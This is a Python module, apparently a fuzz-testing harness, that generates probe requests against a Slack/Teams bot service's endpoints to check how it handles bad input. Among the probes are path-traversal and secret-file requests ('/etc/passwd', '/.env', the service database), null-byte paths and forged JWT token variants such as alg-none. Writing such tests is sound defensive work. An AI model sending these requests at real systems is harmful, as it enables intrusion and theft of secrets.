        ("installationUpdate remove", with_(base, type="installationUpdate", action="remove")),
        ("messageReaction", with_(base, type="messageReaction", reactionsAdded="x")),
        ("typing", with_(base, type="typing")),
        ("event", with_(base, type="event", name="\x00", value=[1])),
        ("huge body", b'{"type": "message", "text": "' + b"a" * HUGE_BODY + b'"}'),
    ]


def teams_odd(n: int, rng: random.Random, service_url: str, huge: bool) -> Probe:
    choices = _teams_odd(n, rng, service_url)
    if not huge:
        choices = [c for c in choices if c[0] != "huge body"]
    kind, activity = rng.choice(choices)
    body = activity if isinstance(activity, bytes) else json.dumps(activity).encode()
    content_type = (
        JSON if rng.random() < 0.95 else rng.choice(["text/plain", FORM, "application/json; charset=latin-1"])
    )
    return Probe(
        n, "teams", f"odd shape: {kind}", "main", "POST", "/api/messages", body, {"Content-Type": content_type}
    )


TEAMS_TOKENS_REFUSED = (
    "none",
    "garbage",
    "basic",
    "bearer-empty",
    "other-key",
    "audience",
    "issuer",
    "expired",
    "not-yet-valid",
    "serviceurl",
    "alg-none",
    "hs256",
    "unknown-kid",
    "channel-not-endorsed",
    "huge",
)


def teams_auth_probe(n: int, rng: random.Random, service_url: str) -> Probe:
    """A request to the service with Teams' token check on: mostly refusals; some good tokens on hostile text."""
    if rng.random() < 0.45:
        probe = teams_wellformed(n, rng, service_url, "teams-auth", "auth")
        if rng.random() < 0.15:  # an odd shape with a good token: the token check passes, the SDK sees it
            kind, activity = rng.choice([c for c in _teams_odd(n, rng, service_url) if c[0] != "huge body"])
            probe.body = activity if isinstance(activity, bytes) else json.dumps(activity).encode()
            probe.kind, probe.admin, probe.inline = f"odd shape, good token: {kind}", None, False
            if isinstance(activity, dict) and isinstance(activity.get("serviceUrl"), str):
                probe.token_service_url = activity["serviceUrl"]  # so that the token check lets it through
        return probe
    token = rng.choice(TEAMS_TOKENS_REFUSED)
    activity = teams_activity(n, service_url, message_text(rng, admin_share=0.5)[1], rng.choice(["personal", "invoke"]))
    if token == "channel-not-endorsed":
        activity["channelId"] = "webchat"
    return Probe(
        n,
        "teams-auth",
        f"token refused: {token}",
        "auth",
        "POST",
        "/api/messages",
        json_body(activity, False),
        {"Content-Type": JSON},
        teams_token=token,
        token_service_url=service_url,
    )


# -- public GETs and OAuth ---------------------------------------------------------------------
IMPOSSIBLE_CHARTS = [
    "monthly-2021-13",
    "monthly-0000-00",
    "monthly-2021-00",
    "monthly-9999-12",
    "monthly-0001-01",
    "agenda-2021-W99",
    "agenda-2021-W00",
    "agenda-2021-W53",
    "agenda-0000-W01",
    "consultations-2021-02-31",
    "consultations-2021-13-45",
    "consultations-0000-01-01",
    "consultations-9999-12-31",
    "monthly-2021-06-31",
    "agenda-2021-06",
    "nothing-2021-06",
    "monthly-2021-06",
    "monthly-2021-05",
    "agenda-2021-W23",
    "consultations-2021-06-14",
]


def _percent(text: str) -> str:
    return quote(text, safe="", errors="surrogatepass")


def public_probe(n: int, rng: random.Random, service: str) -> Probe:
    pick = rng.randrange(4)
    method = "GET"
    if pick == 0:
        kind, text = hostile_text(rng)
        if kind == "100 KB":
            text = text[: rng.choice([4_000, 20_000])]  # beyond aiohttp's 8 KB request line: a 4xx from aiohttp
        path = f"/calendar.ics?ref={_percent(text)}"
        kind = f"calendar ref: {kind}"
    elif pick == 1:
        chart = rng.choice(IMPOSSIBLE_CHARTS)
        path, kind = f"/charts/{chart}.png", f"chart: {chart}"
    elif pick == 2:
        path = rng.choice(
            [
                "/",
                "/healthz",
                "/healthz?x=%00",
                "/admin",
                "/.env",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/charts/../secbot.db",
                "/charts/monthly-2021-06.png%00.txt",
                "/charts/%00.png",
                "/charts/",
                "/calendar.ics?ref=MP161&ref=MP162",
                "/calendar.ics?ref",
                "/calendar.ics?ref=%ED%A0%80",
                "/calendar.ics?ref=%FF%FE",
                "/calendar.ics?ref=%C0%80",
                "/calendar.ics?%ZZ=%ZZ",
                "/slack/events",
                "/api/messages",
                "/" + "a" * 9000,
                "/%F0%9F%98%80",
                "/" + _percent(random_unicode(rng, 20)),
            ]
        )
        kind = f"path: {path[:40]}"
    else:
        method = rng.choice(["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE"])
        path = rng.choice(["/healthz", "/calendar.ics", "/charts/monthly-2021-06.png", "/", "/slack/events"])
        kind = f"method: {method} {path}"
    return Probe(n, "public", kind, service, method, path, b"x" if method in ("POST", "PUT", "PATCH") else b"")


def oauth_probe(n: int, rng: random.Random) -> Probe:
    kind, text = hostile_text(rng)
    value = _percent(text[:2000])
    path = rng.choice(
        [
            "/slack/install",
            f"/slack/install?team={value}",
            "/slack/oauth_redirect",
            f"/slack/oauth_redirect?code={value}",
            f"/slack/oauth_redirect?state={value}",
            f"/slack/oauth_redirect?code={value}&state={value}",
            f"/slack/oauth_redirect?error={value}",
            f"/slack/oauth_redirect?code=x&state=x&error={value}",
        ]
    )
    if rng.random() < 0.2:  # a callback for an install secbot did start, with a hostile code
        path = rng.choice(
            [f"/slack/oauth_redirect?code={value}&state={{state}}", "/slack/oauth_redirect?state={state}"]
        )
        return Probe(n, "oauth", f"callback with a real state: {kind}", "auth", "GET", path, oauth_state=True)
    method = "GET" if rng.random() < 0.95 else "POST"
    return Probe(n, "oauth", f"{path.split('?')[0]}: {kind}", "auth", method, path)


# -- the whole corpus --------------------------------------------------------------------------
def build(seed: int, total: int, *, response_url: str, service_url: str) -> list[Probe]:
    """``total`` probes across every door, in a seeded order that mixes the doors."""
    rng = random.Random(seed)
    counts = {door: max(1, round(total * share)) for door, share in SHARES.items()}
    counts["slack"] += total - sum(counts.values())
    slots = [door for door, count in counts.items() for _ in range(count)]
    rng.shuffle(slots)
    huge_left = max(2, total // 250)  # bodies of 1-2 MB: a few make the point
    probes = []
    for n, door in enumerate(slots, start=1):
        huge = huge_left > 0 and rng.random() < 0.01
        if door == "slack":
            probe = (
                slack_wellformed(n, rng, response_url)
                if rng.random() < 0.75
                else slack_malformed(n, rng, response_url, huge)
            )
        elif door == "teams":
            probe = (
                teams_wellformed(n, rng, service_url, "teams", "main")
                if rng.random() < 0.65
                else teams_odd(n, rng, service_url, huge)
            )
        elif door == "teams-auth":
            probe = teams_auth_probe(n, rng, service_url)
        elif door == "public":
            probe = public_probe(n, rng, rng.choice(["main", "auth"]))
        else:
            probe = oauth_probe(n, rng)
        huge_left -= len(probe.body) > 1024 * KB
        probes.append(probe)
    return probes
